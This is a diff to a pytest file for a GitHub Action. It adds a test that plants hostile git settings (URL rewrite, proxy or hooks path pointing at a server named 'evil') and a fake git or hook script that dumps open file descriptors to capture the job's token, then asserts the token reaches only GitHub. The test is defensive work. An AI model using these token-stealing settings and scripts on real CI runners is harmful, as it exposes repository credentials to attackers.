@@ -5,12 +5,16 @@ The Action's own start takes the secrets away: these tests don't fork it.
 
 from __future__ import annotations
 
+import os
+from contextlib import closing
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from action.runner import handover, user_commands
 from tests.action.conftest import Shop
+from tests.services.server import LoopbackService, Request
 
 EVERYWHERE = r"""
 for folder in /proc/[0-9]*; do
@@ -76,6 +80,45 @@ def test_what_a_command_wrote_to_such_a_file_is_dropped(shop: Shop) -> None:
     assert done.outcome == "success", done.log
     assert done.outputs["tag"] == ""
     assert "A command wrote to a file that changes the job's later steps." in done.log
+
+
+class Elsewhere(LoopbackService):
+    """A server of somebody else's that asks for a password."""
+
+    def answer(self, request: Request) -> tuple[int, Any]:
+        self.headers = {"www-authenticate": 'Basic realm="x"'}
+        return 401, {}
+
+
+SETTINGS = {
+    "address": '[url "{evil}/"]\n\tinsteadOf = {github}/',
+    "proxy": "[http]\n\tproxy = {evil}",
+    "hook": "[core]\n\thooksPath = {folder}",
+}
+
+
+@pytest.mark.parametrize("attack", [*SETTINGS, "program"])
+def test_git_takes_the_token_to_github_alone(ready: Shop, tmp_path: Path, attack: str) -> None:
+    """A command that runs before git does leaves settings or a program behind, in places that the user may write to."""
+    ready.repo.branch("develop", at="main")
+    home, stolen = tmp_path / "home", tmp_path / "stolen"
+    (home / "bin").mkdir(parents=True)
+    with closing(Elsewhere()) as evil:
+        script = (
+            f"#!/bin/sh\nfor n in 3 4 5 6 7 8 9 10 11 12 13 14 15; do cat /dev/fd/$n; done >>{stolen} 2>/dev/null\n"
+        )
+        places = {"evil": evil.url, "github": ready.github.url, "folder": str(home / "bin")}
+        text = SETTINGS.get(attack, "").format(**places)
+        name = "git" if attack == "program" else "reference-transaction"
+        run = f"cat >~/.gitconfig <<'E'\n{text}\nE\ncat >~/bin/{name} <<'E'\n{script}E\nchmod +x ~/bin/{name}"
+        environ = {"HOME": str(home), "PATH": f"{home}/bin:{os.environ['PATH']}"}
+        job = ready.job(environ=environ)
+        done = job.uses(command="ship", **{**ready.inputs(duration="50ms", into="develop"), "run": run})
+        asked = [request.headers for request in evil.requests]
+    assert done.outcome == "success", done.log
+    assert "Opened #2, which brings v1.2.4-hotfix.1 to develop" in done.log
+    assert not asked, "the clone was fetched from elsewhere"
+    assert not stolen.exists() or ready.token not in stolen.read_text()
 
 
 def test_what_clouds_need_for_oidc_reaches_the_commands(monkeypatch: pytest.MonkeyPatch) -> None:
